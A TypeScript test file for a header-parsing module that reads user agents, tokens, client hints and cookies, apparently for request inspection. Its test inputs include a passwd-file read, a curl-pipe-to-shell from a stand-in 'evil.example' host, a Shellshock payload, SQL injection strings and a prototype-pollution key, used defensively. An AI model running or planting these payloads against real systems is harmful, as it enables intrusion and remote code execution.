import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { cookieParts, isClientHint, opaqueToken, userAgentForInspection, userAgentProducts, userAgentReadings } from './header-values.ts';

describe('user agents', () => {
  it('reads the products outside nested or unclosed comments, without contact URLs, emails or stray separators', () => {
    const products = (ua: string) => userAgentProducts(ua).replace(/\s+/g, ' ');
    assert.equal(products('DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)'), 'DuckDuckBot/1.1');
    assert.equal(products('Mozilla/5.0 (compatible; Exabot/3.0 (BiggerBetter); +http://www.exabot.com/go/robot)'), 'Mozilla/5.0');
    assert.equal(products('Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm'), 'Mozilla/5.0');
    assert.equal(products('amibot - http://www.amidalla.de - tech@amidalla.com libwww-perl/5.831'), 'amibot - - libwww-perl/5.831');
    assert.equal(products('Mozilla/5.0 (X11) Mobile Safari/537.36; Bytespider'), 'Mozilla/5.0 Mobile Safari/537.36 Bytespider');
    // A command line stays one.
    assert.equal(products('x; cat /etc/passwd'), 'x cat /etc/passwd');
    assert.equal(products('curl http://evil.example/x.sh | sh'), 'curl | sh');
  });

  it('gives the ordinary rules the host of a URL, not its path, and comment tokens as a list', () => {
    assert.equal(userAgentForInspection('MJ12bot/v1.2.0 (http://majestic12.co.uk/bot.php?+)'), 'MJ12bot/v1.2.0 (http://majestic12.co.uk/)');
    assert.equal(
      userAgentForInspection('Mozilla/5.0 (Windows NT 6.3; Win64; x64; Trident/7.0; Touch; rv:11.0) like Gecko'),
      'Mozilla/5.0 (Windows NT 6.3, Win64, x64, Trident/7.0, Touch, rv:11.0) like Gecko',
    );
    // Outside a comment a semicolon is still a separator: Shellshock keeps its shape.
    assert.equal(userAgentForInspection('() { :; }; /bin/bash -c id'), '() { :; }; /bin/bash -c id');
  });
});

describe('opaque tokens', () => {
  it('drops base64 padding and the quotes around an identifier, and leaves anything else as it is', () => {
    assert.equal(opaqueToken('eyJpZCI6MX0='), 'eyJpZCI6MX0');
    assert.equal(opaqueToken('MzRlODBiNWFlZA%3D%3D'), 'MzRlODBiNWFlZA', 'padding percent-encoded in a query');
    assert.equal(opaqueToken('%22d1b2c3d4-e5f6-7890%22'), 'd1b2c3d4-e5f6-7890');
    assert.equal(opaqueToken('"abc.def"'), 'abc.def');
    assert.equal(opaqueToken("1' OR '1'='1"), "1' OR '1'='1");
    assert.equal(opaqueToken('a==b'), 'a==b', 'an operator in the middle is no padding');
    assert.equal(opaqueToken('"a b"'), '"a b"', 'a quoted phrase is not an identifier');
  });
});

describe('client hints', () => {
  it('pass in their structured-field grammar, and not outside it', () => {
    assert.ok(isClientHint('sec-ch-ua-full-version-list', '"Chromium";v="126.0.6478.126", "Google Chrome";v="126.0.6478.126", "Not-A.Brand";v="8.0.0.0"'));
    assert.ok(isClientHint('sec-ch-ua-mobile', '?0'));
    assert.ok(isClientHint('sec-purpose', 'prefetch;prerender'));
    assert.ok(isClientHint('device-memory', '8'));
    assert.equal(isClientHint('sec-ch-ua-model', "'; DROP TABLE users; --"), false);
    assert.equal(isClientHint('x-custom', '?0'), false, 'only client-hint headers');
  });
});

describe('user agent readings', () => {
  it('are the two readings, the same when remembered, and stay right past the memory\'s bound', () => {
    const ua = 'DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)';
    const expected = { forInspection: userAgentForInspection(ua), products: userAgentProducts(ua) };
    assert.deepEqual(userAgentReadings(ua), expected);
    assert.deepEqual(userAgentReadings(ua), expected);
    for (let i = 0; i < 2_500; i++) userAgentReadings(`Bot/${i}; (+http://example.org/${i})`);
    assert.deepEqual(userAgentReadings(ua), expected);
    assert.equal(userAgentReadings('Bot/7; (+http://example.org/7)').products, 'Bot/7');
    const long = `Bot/1 ${'x'.repeat(2_000)}; (+http://example.org/)`;
    assert.equal(userAgentReadings(long).products, userAgentProducts(long), 'a long one is read, not kept');
  });
});

describe('cookie parts', () => {
  it('splits JSON, query-string and pipe-separated values into what each piece says', () => {
    assert.deepEqual(cookieParts('%7B%22id%22%3A1%2C%22a b%22%3A%5B%22x%22%2C%22y%22%5D%7D'), ['a b', 'x', 'y'], 'JSON: strings and keys that are not plain names');
    assert.deepEqual(cookieParts('{"__proto__":{"admin":true}}'), ['__proto__'], 'a prototype key is kept');
    assert.deepEqual(cookieParts('a=1&b=two+words&c='), ['1', 'two words']);
    assert.deepEqual(cookieParts('-11%7CMCIDTS%7C19700'), ['-11', 'MCIDTS', '19700']);
    assert.deepEqual(cookieParts("1' OR '1'='1"), ["1' OR '1'='1"], 'anything else is one piece');
    assert.deepEqual(cookieParts('%E0%A4%A'), ['%E0%A4%A'], 'a value that does not decode is one piece');
    assert.equal(cookieParts(JSON.stringify(Array.from({ length: 500 }, (_, i) => `s${i} x`))).length, 100, 'bounded');
  });
});
